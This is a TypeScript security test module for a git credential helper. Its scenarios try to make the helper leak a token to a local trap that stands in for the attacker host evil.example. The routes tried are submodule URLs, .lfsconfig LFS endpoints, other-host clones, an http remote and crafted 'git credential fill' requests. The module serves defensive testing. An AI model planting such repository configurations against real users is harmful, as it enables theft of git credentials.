/**
 * The credential-helper attacks of issue 13 §2, run for real: real git, the real helper CLI, a live
 * session, and a local listener standing in for the attacker's host. Each one is refused only when the
 * attack demonstrably ran (the trap saw the request, or git asked the helper) and no credential came out.
 * Used by the end-to-end test and by the reliability run's attack set. Details never hold a token.
 */
import { existsSync, rmSync } from "node:fs";
import { join } from "node:path";
import { createAttackRepo } from "./create-attack-repo.ts";
import { startCredentialTrap } from "./credential-trap.ts";
import { type AttackBox, type AttackTarget, openAttackBox } from "./open-attack-box.ts";
import { must, type RunResult, run } from "./world.ts";

export interface CredentialAttackOutcome {
  name: string;
  refused: boolean;
  detail: string;
}

export interface CredentialAttack {
  name: string;
  run(target: AttackTarget): Promise<CredentialAttackOutcome>;
}

const lastLine = (result: RunResult) => result.stderr.trim().split("\n").at(-1) ?? "";

/** Whether a `password=` line came back: a credential git would send. */
const gotPassword = (result: RunResult) => /^password=/m.test(result.stdout);

/**
 * The helper asked through `git credential fill`, installed sandbox-wide (unscoped), so that the helper
 * itself must refuse. The same fill for `https://<GitHub host>` must get the token: a control that the
 * session works, so a refusal is the helper's and not a dead session's.
 */
function fill(box: AttackBox, attributes: string): Promise<RunResult> {
  return run(
    "git",
    ["-c", "credential.helper=", "-c", `credential.helper=${box.helper}`, "credential", "fill"],
    {
      cwd: box.home,
      env: box.env,
      input: `${attributes}\n`,
    },
  );
}

/** `git credential fill` for a target the token must not go to. */
function fillAttack(name: string, attributes: (target: AttackTarget) => string): CredentialAttack {
  return {
    name,
    async run(target) {
      const box = openAttackBox(target);
      const control = gotPassword(await fill(box, `protocol=https\nhost=${target.github.host}\n`));
      const result = await fill(box, attributes(target));
      const leaked = gotPassword(result);
      return {
        name,
        refused: control && !leaked,
        detail: `${control ? "the GitHub host got a token" : "control failed: no token for the GitHub host"}; ${leaked ? "the attack got a password" : `the attack got none: ${lastLine(result)}`}`,
      };
    },
  };
}

/** The helper's `get` called with a request that does not say where the token would go. */
function getAttack(name: string, input: string): CredentialAttack {
  return {
    name,
    async run(target) {
      const box = openAttackBox(target);
      const get = (stdin: string) =>
        run(process.execPath, [target.cliScript, "get"], { env: box.env, input: stdin });
      const control = gotPassword(await get(`protocol=https\nhost=${target.github.host}\n\n`));
      const result = await get(input);
      const leaked = gotPassword(result);
      return {
        name,
        refused: control && !leaked,
        detail: `${control ? "the GitHub host got a token" : "control failed: no token for the GitHub host"}; ${leaked ? "the attack got a password" : `the attack got none: ${lastLine(result)}`}`,
      };
    },
  };
}

/** The local git config's credential entries (and whether setup left its session file). */
function writtenBySetup(box: AttackBox, dir: string): Promise<{ entries: string[]; sessionFile: boolean }> {
  return run("git", ["config", "--local", "--get-regexp", "^credential\\."], { cwd: dir, env: box.env }).then(
    (listed) => ({
      entries: listed.stdout.split("\n").filter((line) => line !== ""),
      sessionFile: existsSync(join(dir, ".git", "gitcred", "session.json")),
    }),
  );
}

/**
 * A clone (made with plain git from a local path) whose remote `prepare` bends, then `setup`, then git-lfs
 * (the stand-in) smudging `data.bin` again in that clone: it asks `git credential fill` for the
 * `.lfsconfig` host on the trap with the clone's own config. `expectSetup` says whether setup must refuse
 * (then nothing may be written) or succeed (then no unscoped helper may remain).
 */
function setupThenLfsAttack(
  name: string,
  expectSetup: "refused" | "ok",
  prepare: (
    git: (...args: string[]) => Promise<RunResult>,
    target: AttackTarget,
    box: AttackBox,
  ) => Promise<void>,
): CredentialAttack {
  return {
    name,
    async run(target) {
      const trap = await startCredentialTrap({ tls: target.tls });
      try {
        // 127.0.0.1 on the trap's port: the stand-in's fetch resolves names itself (no curloptResolve).
        const box = openAttackBox(target, { lfs: true });
        const bare = join(box.home, "origin", "widgets.git");
        createAttackRepo(bare, { lfsUrl: `${trap.url}/evil/widgets.git/info/lfs` });
        const dir = join(box.home, "work");
        await must("git", ["clone", "--quiet", bare, dir], { cwd: box.home, env: box.env });
        const git = (...args: string[]) => run("git", args, { cwd: dir, env: box.env });
        await prepare(git, target, box);
        const setup = await run(process.execPath, [target.cliScript, "setup", "--dir", dir], {
          env: box.env,
        });
        const written = await writtenBySetup(box, dir);
        // The clone made with plain git asked too (nothing configured yet): only what follows setup counts.
        const before = trap.requests.length;
        rmSync(join(dir, "data.bin"));
        await git("checkout", "--", "data.bin");
        const after = trap.requests.slice(before);
        const credentialed = after.filter((r) => r.authorization !== undefined).length;
        const setupAsExpected =
          expectSetup === "refused"
            ? setup.status !== 0 && written.entries.length === 0 && !written.sessionFile
            : setup.status === 0 && !written.entries.some((line) => /^credential\.helper /.test(line));
        return {
          name,
          refused: after.length > 0 && credentialed === 0 && setupAsExpected,
          detail:
            `setup ${setup.status === 0 ? "configured the clone" : `refused: ${lastLine(setup)}`}; ` +
            `${written.entries.length} credential entries; the LFS endpoint then saw ${after.length} request(s), ` +
            `${credentialed} with a credential`,
        };
      } finally {
        await trap.close();
      }
    },
  };
}

const submoduleOtherHost: CredentialAttack = {
  name: "a submodule on evil.example, the helper installed sandbox-wide: git submodule update",
  async run(target) {
    const trap = await startCredentialTrap({ tls: target.tls });
    try {
      const box = openAttackBox(target, {
        globalHelper: true,
        resolve: [`evil.example:${trap.port}:127.0.0.1`],
      });
      const control = gotPassword(await fill(box, `protocol=https\nhost=${target.github.host}\n`));
      const bare = join(box.home, "origin", "widgets.git");
      createAttackRepo(bare, { submoduleUrl: `https://evil.example:${trap.port}/evil/payload.git` });
      const dir = join(box.home, "work");
      await must("git", ["clone", "--quiet", bare, dir], { cwd: box.home, env: box.env });
      const update = await run("git", ["submodule", "update", "--init"], { cwd: dir, env: box.env });
      const credentialed = trap.credentialed().length;
      return {
        name: submoduleOtherHost.name,
        refused: control && trap.requests.length > 0 && credentialed === 0,
        detail: `${control ? "the GitHub host got a token" : "control failed: no token for the GitHub host"}; submodule update ${update.status === 0 ? "succeeded" : "failed"}; the host saw ${trap.requests.length} request(s), ${credentialed} with a credential`,
      };
    } finally {
      await trap.close();
    }
  },
};

const lfsDuringClone: CredentialAttack = {
  name: "a cloned repository's .lfsconfig lfs.url on another port of the host: git-lfs asks during the clone",
  async run(target) {
    const trap = await startCredentialTrap({ tls: target.tls });
    try {
      const { url, root, owner, repo } = target.github;
      createAttackRepo(join(root, owner, `${repo}.git`), {
        lfsUrl: `${trap.url}/${owner}/${repo}.git/info/lfs`,
      });
      const box = openAttackBox(target, { lfs: true });
      const clone = await run(
        process.execPath,
        [target.cliScript, "clone", `${url}/${owner}/${repo}.git`, join(box.home, "work")],
        { cwd: box.home, env: box.env },
      );
      const credentialed = trap.credentialed().length;
      return {
        name: lfsDuringClone.name,
        refused: clone.status === 0 && trap.requests.length > 0 && credentialed === 0,
        detail: `clone ${clone.status === 0 ? "succeeded" : `failed: ${lastLine(clone)}`}; the LFS endpoint saw ${trap.requests.length} request(s), ${credentialed} with a credential`,
      };
    } finally {
      await trap.close();
    }
  },
};

const cloneOtherHost: CredentialAttack = {
  name: "gitcred-credential clone of a repository on another host",
  async run(target) {
    const trap = await startCredentialTrap({ tls: target.tls });
    try {
      const box = openAttackBox(target, { resolve: [`evil.example:${trap.port}:127.0.0.1`] });
      const clone = await run(
        process.execPath,
        [
          target.cliScript,
          "clone",
          `https://evil.example:${trap.port}/acme/widgets.git`,
          join(box.home, "work"),
        ],
        { cwd: box.home, env: box.env },
      );
      const credentialed = trap.credentialed().length;
      return {
        name: cloneOtherHost.name,
        refused: clone.status !== 0 && credentialed === 0,
        detail: `clone ${clone.status === 0 ? "succeeded" : `refused: ${lastLine(clone)}`}; the host saw ${trap.requests.length} request(s), ${credentialed} with a credential`,
      };
    } finally {
      await trap.close();
    }
  },
};

const httpRemote: CredentialAttack = {
  name: "an http:// remote on the GitHub host: setup, then git fetch in clear text",
  async run(target) {
    // The trap is the configured GitHub host, reached over plain http.
    const trap = await startCredentialTrap();
    try {
      const githubHost = `127.0.0.1:${trap.port}`;
      const box = openAttackBox(target, { githubHost });
      const bare = join(box.home, "origin", "widgets.git");
      createAttackRepo(bare, {});
      const dir = join(box.home, "work");
      await must("git", ["clone", "--quiet", bare, dir], { cwd: box.home, env: box.env });
      const git = (...args: string[]) => run("git", args, { cwd: dir, env: box.env });
      await git("remote", "set-url", "origin", `http://${githubHost}/acme/widgets.git`);
      const setup = await run(process.execPath, [target.cliScript, "setup", "--dir", dir], { env: box.env });
      const written = await writtenBySetup(box, dir);
      await git("fetch", "origin");
      const credentialed = trap.credentialed().length;
      return {
        name: httpRemote.name,
        refused:
          setup.status !== 0 &&
          written.entries.length === 0 &&
          !written.sessionFile &&
          trap.requests.length > 0 &&
          credentialed === 0,
        detail: `setup ${setup.status === 0 ? "configured the clone" : `refused: ${lastLine(setup)}`}; the http host saw ${trap.requests.length} request(s), ${credentialed} with a credential`,
      };
    } finally {
      await trap.close();
    }
  },
};

/** Every attack, in the order they run. */
export const CREDENTIAL_ATTACKS: readonly CredentialAttack[] = [
  fillAttack("git credential fill with host=evil.example", () => "protocol=https\nhost=evil.example\n"),
  fillAttack(
    "git credential fill with protocol=http for the GitHub host",
    (t) => `protocol=http\nhost=${t.github.host}\n`,
  ),
  fillAttack("git credential fill for the GitHub host on another port", (t) => {
    const [name, port] = t.github.host.split(":");
    return `protocol=https\nhost=${name}:${Number(port ?? 443) + 1}\n`;
  }),
  getAttack("the helper's get without a protocol", `host=github.com\n\n`),
  getAttack("the helper's get without a host", "protocol=https\n\n"),
  lfsDuringClone,
  cloneOtherHost,
  httpRemote,
  submoduleOtherHost,
  setupThenLfsAttack(
    "an ssh remote: setup, then .lfsconfig on another host",
    "refused",
    async (git, target) => {
      await git("remote", "set-url", "origin", `git@${target.github.host.split(":")[0]}:acme/widgets.git`);
    },
  ),
  setupThenLfsAttack("no remote at all: setup, then .lfsconfig on another host", "refused", async (git) => {
    await git("remote", "remove", "origin");
  }),
  setupThenLfsAttack(
    "an unscoped helper an older version left: setup again, then .lfsconfig on another host",
    "ok",
    async (git, target, box) => {
      // What the older setup wrote for a remote it could not scope: every host, through the session file.
      const configPath = join(
        (await git("rev-parse", "--absolute-git-dir")).stdout.trim(),
        "gitcred",
        "session.json",
      );
      await git("config", "--local", "--add", "credential.helper", "");
      await git("config", "--local", "--add", "credential.helper", `${box.helper} --config '${configPath}'`);
      await git(
        "remote",
        "set-url",
        "origin",
        `${target.github.url}/${target.github.owner}/${target.github.repo}.git`,
      );
    },
  ),
];
